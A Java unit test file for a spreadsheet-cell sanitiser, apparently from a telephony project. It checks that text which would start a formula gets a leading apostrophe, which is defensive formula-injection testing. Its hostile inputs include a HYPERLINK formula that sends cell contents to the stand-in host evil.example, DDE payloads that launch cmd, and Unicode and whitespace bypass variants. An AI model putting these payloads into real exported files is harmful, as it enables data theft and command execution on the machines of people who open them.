package ru.sipring.core.text;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class SpreadsheetCellTest {
  @ParameterizedTest
  @ValueSource(strings = {"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "@SUM(1+1)*cmd|' /C calc'!A0",
      "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", "\uFF1DHYPERLINK(\"x\")",
      "\uFF0B1", "\uFF0D1", "\uFF20SUM(A1)", " =1+1", "\u00A0\u3000=1+1", "=", "-", "+79161234567"})
  void textThatStartsAFormulaGetsAnApostrophe(String hostile) {
    assertThat(SpreadsheetCell.startsFormula(hostile)).isTrue();
    assertThat(SpreadsheetCell.neutralise(hostile)).isEqualTo("'" + hostile);
    assertThat(SpreadsheetCell.startsFormula(SpreadsheetCell.neutralise(hostile))).isFalse();
  }

  @ParameterizedTest
  @ValueSource(strings = {"", "   ", "79161234567", "Иванов ВА", "Local/500@from-queue/n", "a=b", "1589438120.3",
      "'=already text", "500, \"доб\""})
  void harmlessTextIsUnchanged(String text) {
    assertThat(SpreadsheetCell.startsFormula(text)).isFalse();
    assertThat(SpreadsheetCell.neutralise(text)).isSameAs(text);
  }

  @Test
  void neutralisingTwiceChangesNothingMore() {
    String once = SpreadsheetCell.neutralise("=1+1");
    assertThat(SpreadsheetCell.neutralise(once)).isEqualTo(once);
  }
}
